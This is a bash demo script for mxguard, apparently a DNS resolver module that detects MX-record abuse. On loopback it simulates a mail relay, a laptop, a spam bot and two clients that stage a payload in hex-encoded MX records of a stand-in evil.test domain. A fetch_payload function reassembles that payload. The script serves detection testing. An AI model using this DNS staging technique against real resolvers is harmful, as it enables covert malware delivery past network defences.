#!/usr/bin/env bash
# contrib/demo.sh - mxguard in action, on loopback, in a few minutes.
#
# Builds everything (contrib/build.sh), then starts a private NSD serving test
# zones (ordinary companies, a big mail provider, a dynamic-DNS name, a
# payload-staging domain written exactly as the public MX staging tool writes
# it and a slow variant of it), a private Redis and Unbound with mxguard, all
# on 127.0.0.1 and free ports. It replays five clients:
#   127.0.0.2   the mail relay (allowlisted), sending mail to 200 companies,
#               a freemail provider and a dynamic-DNS name
#   127.0.0.10  a laptop looking up two MX records
#   127.0.0.66  a spam bot resolving MX for 500 domains
#   127.0.0.99  a staging client fetching its payload from N.evil.test
#   127.0.0.98  a slow staging client fetching one record per answer from
#               alpha.drip.test, bravo.drip.test, ... (30 names)
# once in log mode and once in refuse mode, and prints what mxguard saw and
# did, from Redis through mxguard-report. Everything it started is stopped
# by PID at the end; nothing leaves the machine.
set -euo pipefail
top=$(cd "$(dirname "$0")/.." && pwd)
cd "$top"

if [ -n "${MXG_BUILDDIR:-}" ] && [ -n "${UNBOUND_DIR:-}" ]; then
	echo "== using the build in $MXG_BUILDDIR"
else
	echo "== building (first run: installs packages and builds Unbound, ~2 min)"
	UNBOUND_DIR=$(bash contrib/build.sh 2>"${TMPDIR:-/tmp}/mxguard-demo-build.log" | tail -n 1) || {
		tail -30 "${TMPDIR:-/tmp}/mxguard-demo-build.log"; echo "demo: build failed" >&2; exit 1; }
	MXG_BUILDDIR=$top
fi
export UNBOUND_DIR MXG_BUILDDIR MXG_SRCDIR=$top
. tests/integration/lib.sh
mxg_setup
REPORT=$MXG_BUILDDIR/tools/mxguard-report

echo "== starting NSD, Redis and Unbound+mxguard on 127.0.0.1"
bash contrib/make-zone.sh "$MXG_T/root.zone" 600
staged_bytes=$(( $(sed -n 's/^; staging: [0-9]* hex chars in \([0-9]*\) MX.*/\1/p' "$MXG_T/root.zone") * 100 ))
start_nsd "$MXG_T/root.zone"
start_redis
D=$MXG_T/unbound
write_unbound_conf "$D" 2

# write_conf MODE PREFIX
write_conf() {
	cat >"$D/mxguard.conf" <<CONF
# mxguard demo config
mode: $1
relay: 127.0.0.2
block-duration: 10m
geoip-country: $top/tests/data/geoip/GeoIP2-Country-Test.mmdb
geoip-asn: $top/tests/data/geoip/GeoLite2-ASN-Test.mmdb
redis-server: 127.0.0.1:$REDIS_PORT
redis-prefix: $2
instance: demo-resolver
log-file: $D/mxguard-$1.json
category-file: $MXG_T/categories.txt
CONF
}
# the built-in category list knows real providers; the demo's zones are
# under .test, so give them categories of their own
cat >"$MXG_T/categories.txt" <<CAT
bigmail.test	freemail
dyndns.test	dyndns
num.test	cloud
CAT
write_conf log "demo-log:"
start_unbound "$D" || { echo "demo: unbound did not start" >&2; exit 1; }

# batch FILE CLIENT: run the queries in FILE from CLIENT; print "answered refused"
batch() {
	dig +time=3 +tries=1 -p "$UB_PORT" @127.0.0.1 -b "$2" -f "$1" +noall +comments 2>/dev/null |
		awk '/status: NOERROR/ {a++} /status: REFUSED/ {r++} END {printf "%d %d\n", a, r}'
}

# fetch_payload CLIENT: fetch N.evil.test until an empty answer; print
# "queries answered refused bytes"
fetch_payload() {
	local n=0 ans=0 ref=0 bytes=0 out hex
	for n in 1 2 3 4 5; do
		out=$(dig +time=5 +tries=1 +tcp -p "$UB_PORT" @127.0.0.1 -b "$1" "$n.evil.test" MX)
		if echo "$out" | grep -q "status: REFUSED"; then ref=$((ref + 1)); continue; fi
		ans=$((ans + 1))
		hex=$(echo "$out" | awk '$4 == "MX" {print $5, $6}' | sort -n | awk '{print $2}' |
			sed 's/\.evil\.test\.$//; s/\.//g' | tr -d '\n')
		bytes=$((bytes + ${#hex} / 2))
	done
	echo "5 $ans $ref $bytes"
}

# the relay mails 200 companies, and a freemail and a dynamic-DNS
# domain often
{ seq 1 200 | sed 's/.*/company&.test MX/'
  for i in 1 2 3 4 5 6; do echo "bigmail.test MX"; echo "home.dyndns.test MX"; done
} >"$MXG_T/relay.batch"
nrelay=$(wc -l <"$MXG_T/relay.batch")
seq 101 600 | sed 's/.*/company&.test MX/' >"$MXG_T/bot.batch"
printf 'bigmail.test MX\nhome.dyndns.test MX\n' >"$MXG_T/laptop.batch"
sed -n 's/^\([a-z]*\.drip\.test\)\. IN MX .*/\1 MX/p' "$MXG_T/root.zone" >"$MXG_T/drip.batch"
ndrip=$(wc -l <"$MXG_T/drip.batch")

# run MODE PREFIX: replay the four clients and report
run() {
	local mode=$1 prefix=$2
	echo
	echo "################  mode: $mode  ################"
	read -r ra rr < <(batch "$MXG_T/relay.batch" 127.0.0.2)
	read -r la lr < <(batch "$MXG_T/laptop.batch" 127.0.0.10)
	read -r ba br < <(batch "$MXG_T/bot.batch" 127.0.0.66)
	read -r da dr < <(batch "$MXG_T/drip.batch" 127.0.0.98)
	read -r sq sa sr sb < <(fetch_payload 127.0.0.99)
	sleep 2	# let the background thread ship the last events to Redis
	echo
	echo "What the clients got:"
	printf '  %-28s %5d MX lookups: %4d answered, %4d refused\n' \
		"mail relay 127.0.0.2" "$nrelay" "$ra" "$rr" \
		"laptop 127.0.0.10" 2 "$la" "$lr" \
		"spam bot 127.0.0.66" 500 "$ba" "$br" \
		"staging client 127.0.0.99" "$sq" "$sa" "$sr" \
		"slow staging 127.0.0.98" "$ndrip" "$da" "$dr"
	echo "  payload fetched by the staging client: $sb of $staged_bytes bytes staged"
	echo
	echo "Who was caught by which rule (alert stream in Redis, via mxguard-report alerts):"
	"$REPORT" -p "$REDIS_PORT" --prefix "$prefix" alerts -N 5000 |
		awk 'NR > 1 {print $2, $3, $4}' | sort | uniq -c | sort -k2,2 -k1,1nr |
		awk 'BEGIN {printf "  %-12s %-15s %-12s %s\n", "CLIENT", "RULE", "ACTION", "ALERTS"}
			{printf "  %-12s %-15s %-12s %d\n", $2, $3, $4, $1}'
	echo
	echo "The newest alerts:"
	"$REPORT" -p "$REDIS_PORT" --prefix "$prefix" alerts -N 6 | sed 's/^/  /' | cut -c1-200
	echo
	"$REPORT" -p "$REDIS_PORT" --prefix "$prefix" top-clients -N 5 | sed 's/^/  /'
	echo
	"$REPORT" -p "$REDIS_PORT" --prefix "$prefix" top-domains -N 8 | sed 's/^/  /'
	echo
	echo "JSON log lines written: $(wc -l <"$D/mxguard-$mode.json" 2>/dev/null || echo 0) ($D/mxguard-$mode.json)"
}

run log "demo-log:"
write_conf refuse "demo-refuse:"
ubctl "$D" reload >/dev/null
wait_dns 127.0.0.1 "$UB_PORT" version.bind TXT -c CH
run refuse "demo-refuse:"
echo
echo "== done; stopping Unbound, Redis and NSD"
